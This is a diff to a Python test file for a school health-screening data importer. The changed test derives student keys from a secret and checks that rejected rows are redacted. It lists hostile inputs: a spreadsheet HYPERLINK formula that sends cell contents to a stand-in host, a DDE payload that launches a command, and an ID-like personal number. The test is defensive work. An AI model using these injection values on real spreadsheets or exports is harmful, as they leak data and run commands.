@@ -12,6 +12,7 @@ import psycopg
 import pytest
 from kafka import KafkaConsumer
 
+from models.identity import student_key
 from models.importing import COLUMNS
 from models.topics import BMI_SCREENINGS
 from services.importer import import_file
@@ -76,7 +77,9 @@ def test_a_file_over_the_row_limit_is_refused_whole(isolated: Settings, tmp_path
 
 
 def test_every_row_is_published_or_reported_and_rejections_are_redacted(isolated: Settings, tmp_path: Path) -> None:
-    add_school_and_student(isolated, school_id="SA01", name="Li Xiaoming", student_key="0" * 64,
+    secret = isolated.student_key_secret.get_secret_value().encode()
+    add_school_and_student(isolated, school_id="SA01", name="Li Xiaoming",
+                           student_key=student_key(secret, "G110101201403070011"),
                            student_number="G110101201403070011", sex="male", birth_date="2014-03-07")
     token = add_user(isolated, "d-a", "school_doctor", schools=["SA01"])
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "张三 110101200501011234", "+cmd|' /C calc'!A0"]
